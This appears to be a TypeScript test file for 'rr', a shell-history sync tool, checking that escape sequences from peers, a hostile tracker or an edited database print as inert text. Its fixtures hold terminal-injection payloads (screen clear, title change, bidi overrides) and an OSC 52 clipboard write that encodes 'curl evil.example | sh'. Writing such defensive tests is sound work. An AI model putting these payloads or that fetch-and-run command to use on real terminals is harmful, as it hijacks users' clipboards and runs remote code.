/**
 * A peer's escape sequences reach a real terminal (tmux) through `rr history`, `rr search --filter` and the lists
 * `rr delete` and `rr redact` show before deleting: the screen clear, the window title (OSC 0) and the clipboard
 * write (OSC 52) must show as text and do nothing (issue 17, item 6). tmux is told to accept OSC 52 (set-clipboard on), so a raw clipboard write would land in its buffers.
 */
import { execFile } from 'node:child_process'
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import test, { type ExecutionContext } from 'ava'
import { openDatabase } from '../../src/store/db.js'
import { insertEntries } from '../../src/store/entries.js'
import { isolatedEnv, rr, rrBin, rrSpawn, stop } from '../helpers/cli.js'
import { writeSwarmKey } from '../helpers/cluster.js'
import { daemonLog, startDaemon, type DaemonDevice } from '../helpers/daemons.js'
import { queryFile } from '../helpers/peers.js'
import { unusedPorts } from '../helpers/ports.js'
import { startTmux } from '../helpers/tmux.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from '../store/fixtures.js'

async function tmux (socket: string, args: string[]): Promise<{ code: number, stdout: string }> {
  return await new Promise((resolve) => {
    execFile('tmux', ['-L', socket, ...args], { timeout: 10_000 }, (err, stdout) => resolve({ code: err == null ? 0 : 1, stdout }))
  })
}

const sleep = async (ms: number): Promise<void> => await new Promise((resolve) => setTimeout(resolve, ms))

const hostile = [
  'echo PWN-clear \u001b[2J\u001b[3J\u001b[H',
  'echo PWN-title \u001b]0;PWNED-TITLE\u0007',
  'echo PWN-clip \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  'echo PWN-csi \u009b2J'
]

/** The same commands carrying an AWS key id, for `rr redact --secrets` to list. */
const hostileSecrets = hostile.map((cmd) => `${cmd} AKIAIOSFODNN7EXAMPLE`)

// delete and redact list what they would delete (--dry-run, and before asking on a terminal) the same way.
const commands = [
  ['rr history', ['history'], hostile],
  ['rr search --filter', ['search', '--filter', 'PWN'], hostile],
  ['rr delete --dry-run', ['delete', '--filter', 'PWN', '--dry-run'], hostile],
  ['rr redact --secrets --dry-run', ['redact', '--secrets', '--dry-run'], hostileSecrets]
] as const

for (const [name, args, cmds] of commands) {
  test(`${name} on a terminal shows a peer's escape sequences as text: no clear, no title, no clipboard`, async (t) => {
    const dir = tempDir(t)
    const dbPath = join(dir, 'history.db')
    const db = openDatabase(dbPath)
    insertEntries(db, cmds.map((cmd, i) => entry({ cmd, ts: new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString() })), 'received')
    db.close()
    const env = isolatedEnv(join(dir, 'home'), { TERM: 'xterm-256color', LANG: 'C.UTF-8' })
    delete env.TMUX
    const script = `read go; echo MARKER-BEFORE; ${JSON.stringify(rrBin)} --db-path ${JSON.stringify(dbPath)} ${args.map((a) => JSON.stringify(a)).join(' ')}; echo MARKER-AFTER; sleep 600`
    const session = await startTmux(t, { command: ['sh', '-c', script], env, cwd: dir })
    t.is((await tmux(session.socket, ['set-option', '-g', 'set-clipboard', 'on'])).code, 0)
    t.is((await tmux(session.socket, ['set-option', '-g', 'allow-rename', 'on'])).code, 0)
    const titleBefore = (await tmux(session.socket, ['display-message', '-p', '-t', 'rr', '#{pane_title}'])).stdout.trim()
    await session.keys('Enter')
    const screen = await session.waitFor(/MARKER-AFTER/, 60_000)
    t.true(screen.includes('MARKER-BEFORE'), `the screen was not cleared:\n${screen}`)
    t.true(screen.includes('echo PWN-title ␛]0;PWNED-TITLE␇'), screen)
    t.true(screen.includes('echo PWN-clip ␛]52;c;'), screen)
    t.true(screen.includes('echo PWN-csi <U+009B>2J'), screen)
    const titleAfter = (await tmux(session.socket, ['display-message', '-p', '-t', 'rr', '#{pane_title}'])).stdout.trim()
    t.is(titleAfter, titleBefore)
    t.false(titleAfter.includes('PWNED'))
    const buffers = await tmux(session.socket, ['list-buffers'])
    t.is(buffers.stdout.trim(), '', 'no clipboard write reached tmux')
  })
}

test('rr history --format jsonl keeps the command exact', async (t) => {
  const dir = tempDir(t)
  const dbPath = join(dir, 'history.db')
  const db = openDatabase(dbPath)
  insertEntries(db, hostile.map((cmd) => entry({ cmd })), 'received')
  db.close()
  const out = await rr(['--db-path', dbPath, 'history', '--format', 'jsonl'], { env: isolatedEnv(join(dir, 'home')) })
  t.is(out.code, 0, out.stderr)
  const cmds = out.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { cmd: string }).cmd)
  t.deepEqual(cmds.sort(), [...hostile].sort())
  t.false(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(out.stdout))
})

test('rr daemon\'s log shows what a peer served as text: a refused entry\'s escape sequences never reach the terminal raw', async (t) => {
  t.timeout(120_000)
  const root = tempDir(t)
  const tracker = await rrSpawn(['tracker-serve', '--bind', '127.0.0.1:0', '--ttl-sec', '60'], { env: isolatedEnv(join(root, 'tracker')), ready: /tracker listen: (http:\/\/127\.0\.0\.1:\d+)\n/, timeoutMs: 60_000 })
  t.teardown(async () => { await stop(tracker.child) })
  const ports = await unusedPorts(2)
  const deviceOf = (name: string, port: number): DaemonDevice & { dbPath: string } => {
    const home = join(root, name)
    mkdirSync(join(home, '.config', 'rustory'), { recursive: true })
    const env = isolatedEnv(home, { USER: name, LOGNAME: name, RUSTORY_DEVICE_ID: `dev-${name}` })
    return { env, port, log: join(home, 'daemon.log'), dbPath: join(home, '.rustory', 'history.db') }
  }
  const anna = deviceOf('anna', ports[0]!)
  const ben = deviceOf('ben', ports[1]!)
  const benHas = (entryId: string): boolean => {
    try {
      return queryFile<{ entry_id: string }>(ben.dbPath, 'SELECT entry_id FROM entries WHERE entry_id = ?', entryId).length === 1
    } catch {
      return false // not created yet
    }
  }
  writeFileSync(join(anna.env.HOME!, '.config', 'rustory', 'config.toml'), `trackers = ["${tracker.match[1]!}"]\n`)
  const invite = await rr(['invite'], { env: anna.env })
  t.is(invite.code, 0, invite.stderr)
  const joined = await rr(['join', invite.stdout.trim().split(' ')[2]!], { env: ben.env })
  t.is(joined.code, 0, joined.stderr)
  const record = await rr(['record', '--cmd', 'echo genuine', '--cwd', '/tmp', '--exit-code', '0', '--shell', 'bash', '--print-id'], { env: anna.env })
  t.is(record.code, 0, record.stderr)
  // Stored past the validator (an older or hostile peer): an entry_id that is no UUID but a clipboard write, a
  // title and a screen clear, which ben refuses and names in his log.
  const db = openDatabase(anna.dbPath)
  db.prepare('INSERT INTO entries (entry_id, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version) VALUES (?, ?, ?, ?, ?, ?, 0, 1, ?, ?, ?)')
    .run('x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;PWNED\u0007\u001b[2J\u009b2J', 'dev-anna', 'anna', '2026-01-01T00:00:00.000Z', 'echo hostile', '/tmp', 'bash', 'h', '0.1.0')
  db.close()

  for (const dev of [anna, ben]) startDaemon(t, dev, 600)
  const deadline = Date.now() + 60_000
  while (!/refused=1/.test(daemonLog(ben)) || !benHas(record.stdout.trim())) {
    if (Date.now() > deadline) return t.fail(`ben never refused anna's hostile entry in 60 s\n${daemonLog(ben).slice(-3000)}`)
    await sleep(250)
  }
  const log = daemonLog(ben)
  t.regex(log, /invalid entry x␛\]52;c;Y3Vy.*␇␛\]0;PWNED␇␛\[2J<U\+009B>2J: entry_id /)
  t.false(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(log), 'no raw control character in the daemon log')
})

/** Every raw control character a terminal acts on, as the escaper sees them (src/core/escape.ts). */
const rawControl = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
const hostileText = (text: string): string => `${text}\u001b]0;PWNED\u0007\u009b31m\u202e\u007f\r\u001b[2J`

/**
 * A hostile tracker (an HTTP server the test runs, answering as the attack would): `list` answers a listing whose
 * peer has a device_id and hostname full of escape sequences, `refuse` answers 400 with an error text full of them.
 */
async function hostileTracker (t: ExecutionContext, mode: 'list' | 'refuse'): Promise<string> {
  const peerId = '12D3KooWQYhTNQdmr3ArTeUHRYzFg94BKyTkoWBDWez9kSCVe2Xo'
  const server = createServer((req, res) => {
    const send = (status: number, body: unknown): void => { res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body)) }
    req.resume()
    req.on('end', () => {
      if (mode === 'refuse') return send(400, { error: hostileText('tracker says no') })
      if (req.method === 'POST') return send(200, { ok: true, ttl_sec: 60, observed_addr: '/ip4/127.0.0.1/tcp/1' })
      const userId = new URL(req.url ?? '/', 'http://x').searchParams.get('user_id') ?? ''
      send(200, { peers: [{ peer_id: peerId, addrs: [`/ip4/127.0.0.1/tcp/9/p2p/${peerId}`], meta: { user_id: userId, device_id: hostileText('dev'), hostname: hostileText('host'), version: '0.1.0' }, last_seen_unix: Math.floor(Date.now() / 1000) }] })
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => { server.closeAllConnections(); server.close() })
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

test('what a hostile tracker says reaches p2p-sync, sync-status and sync-status --json as text, the JSON values exact', async (t) => {
  t.timeout(120_000)
  const dir = tempDir(t)
  const swarm = join(dir, 'swarm.key')
  writeSwarmKey(swarm)
  const env = isolatedEnv(join(dir, 'home'))
  const dbPath = join(dir, 'history.db')
  const common = ['--db-path', dbPath, '--swarm-key', swarm]

  const refused = await rr(['p2p-sync', ...common, '--trackers', await hostileTracker(t, 'refuse')], { env, timeoutMs: 60_000 })
  t.true(refused.stderr.includes('tracker says no␛]0;PWNED␇<U+009B>31m<U+202E>␡␍␛[2J'), refused.stderr)
  t.false(rawControl.test(refused.stdout + refused.stderr), refused.stderr)

  const listed = await rr(['p2p-sync', ...common, '--trackers', await hostileTracker(t, 'list')], { env, timeoutMs: 60_000 })
  t.false(rawControl.test(listed.stdout + listed.stderr), listed.stderr)
  const status = await rr(['sync-status', ...common], { env })
  t.true(status.stdout.includes('dev␛]0;PWNED␇<U+009B>31m<U+202E>␡␍␛[2J'), status.stdout)
  t.false(rawControl.test(status.stdout + status.stderr), status.stdout)
  const json = await rr(['sync-status', ...common, '--json'], { env })
  t.false(rawControl.test(json.stdout), json.stdout)
  const peers = (JSON.parse(json.stdout) as { peers: Array<{ device_id?: string, hostname?: string }> }).peers
  t.deepEqual(peers.map((p) => [p.device_id, p.hostname]), [[hostileText('dev'), hostileText('host')]])
})

test('a hand-edited database\'s stamp and entry_id show as text in rr history and the rr delete list', async (t) => {
  const dir = tempDir(t)
  const dbPath = join(dir, 'history.db')
  const db = openDatabase(dbPath)
  db.prepare('INSERT INTO entries (entry_id, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version) VALUES (?, ?, ?, ?, ?, ?, 0, 1, ?, ?, ?)')
    .run(hostileText('id'), 'dev', 'me', hostileText('2026'), 'echo edited', '/tmp', 'bash', 'h', '0.1.0')
  db.close()
  const env = isolatedEnv(join(dir, 'home'))
  for (const args of [['history'], ['history', '--utc'], ['delete', '--filter', 'edited', '--dry-run']]) {
    const out = await rr(['--db-path', dbPath, ...args], { env })
    t.is(out.code, 0, out.stderr)
    t.true(out.stdout.includes('2026␛]0;PW'), `${args.join(' ')}: ${out.stdout}`)
    t.false(rawControl.test(out.stdout + out.stderr), `${args.join(' ')}: ${out.stdout}`)
  }
})
